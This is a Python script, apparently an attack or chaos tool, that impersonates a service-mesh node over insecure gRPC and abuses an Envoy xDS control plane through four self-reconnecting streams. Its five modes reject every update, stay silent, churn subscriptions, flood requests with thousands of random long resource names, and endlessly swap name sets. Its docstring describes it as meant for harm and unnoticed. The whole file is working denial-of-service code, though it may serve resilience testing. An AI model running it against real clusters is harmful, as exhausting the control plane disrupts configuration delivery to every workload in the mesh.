"""Who speaks xDS and means harm: `stranger.py HOW SECONDS HOST:PORT NODE`. Runs in the node's namespace, where it is
nobody's pod, or in a pod, which it then speaks for beside that pod's own proxy.

Whatever becomes of it is right, as long as nobody else notices.
"""

import random
import sys
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import suppress
from itertools import count
from queue import Empty, Queue

import grpc
from envoy.service.discovery.v3.discovery_pb2 import DeltaDiscoveryRequest, DeltaDiscoveryResponse

_METHOD = "/envoy.service.discovery.v3.AggregatedDiscoveryService/DeltaAggregatedResources"
_KINDS = ("cluster.v3.Cluster", "listener.v3.Listener", "route.v3.RouteConfiguration")
_URLS = tuple(f"type.googleapis.com/envoy.config.{kind}" for kind in _KINDS)
_STREAMS = 4
"""Beside the one of the pod's own proxy, of the eight that a pod may have."""
_MANY = 10_000
_ENDPOINTS = "type.googleapis.com/envoy.config.endpoint.v3.ClusterLoadAssignment"

Answers = Queue[DeltaDiscoveryResponse]
Way = Callable[[Answers], Iterator[DeltaDiscoveryRequest]]


def refuses_all(answers: Answers) -> Iterator[DeltaDiscoveryRequest]:
    while True:
        answer = answers.get()
        refusal = DeltaDiscoveryRequest(type_url=answer.type_url, response_nonce=answer.nonce)
        refusal.error_detail.code = 13
        refusal.error_detail.message = f"no {answer.resources[0].name if answer.resources else ''}"
        yield refusal


def never_answers(_: Answers) -> Iterator[DeltaDiscoveryRequest]:
    yield from ()


def asks_without_end(answers: Answers) -> Iterator[DeltaDiscoveryRequest]:
    names = [f"outbound|80||x{number}.example.com" for number in range(1_000)]
    while True:
        with suppress(Empty):
            answers.get_nowait()
        yield DeltaDiscoveryRequest(type_url=_ENDPOINTS, resource_names_subscribe=names)
        yield DeltaDiscoveryRequest(type_url=_ENDPOINTS, resource_names_unsubscribe=names)


def asks_for_much(_: Answers) -> Iterator[DeltaDiscoveryRequest]:
    """Up to what discovery takes, and then more than that."""
    while True:
        name = "x" * random.randrange(100, 900)
        names = [f"{name}{number}" for number in range(random.randrange(1_000, _MANY))]
        yield DeltaDiscoveryRequest(type_url=_ENDPOINTS, resource_names_subscribe=names)


def names_others(_: Answers) -> Iterator[DeltaDiscoveryRequest]:
    """Each time, instead of those before; and never says what it makes of an answer."""
    before: list[str] = []
    for number in count():
        names = [f"outbound|80||of-{number}-{each:050}" for each in range(_MANY)]
        yield DeltaDiscoveryRequest(type_url=_ENDPOINTS, resource_names_unsubscribe=before)
        yield DeltaDiscoveryRequest(type_url=_ENDPOINTS, resource_names_subscribe=names)
        before = names


WAYS: dict[str, Way] = {
    "refuses-all": refuses_all,
    "never-answers": never_answers,
    "asks-without-end": asks_without_end,
    "asks-for-much": asks_for_much,
    "names-others": names_others,
}


def main(how: str, seconds: float, target: str, node: str) -> None:
    over = threading.Event()
    talking = [threading.Thread(target=talk, args=(how, target, node, over), daemon=True) for _ in range(_STREAMS)]
    for thread in talking:
        thread.start()
    time.sleep(seconds)
    over.set()


def talk(how: str, target: str, node: str, over: threading.Event) -> None:
    """One stream after the other: whoever is cut off comes again."""
    while not over.is_set():
        answers: Answers = Queue()
        with suppress(grpc.RpcError), grpc.insecure_channel(target) as channel:
            for body in channel.stream_stream(_METHOD)(requests(WAYS[how](answers), node, over)):
                answers.put(DeltaDiscoveryResponse.FromString(body))
        over.wait(0.05)


def requests(way: Iterator[DeltaDiscoveryRequest], node: str, over: threading.Event) -> Iterator[bytes]:
    for url in _URLS:
        first = DeltaDiscoveryRequest(type_url=url, resource_names_subscribe=["80"] if "Route" in url else [])
        first.node.id = node
        yield first.SerializeToString()
    for request in way:
        if over.is_set():
            return
        yield request.SerializeToString()
    over.wait()


if __name__ == "__main__":
    main(sys.argv[1], float(sys.argv[2]), sys.argv[3], sys.argv[4])
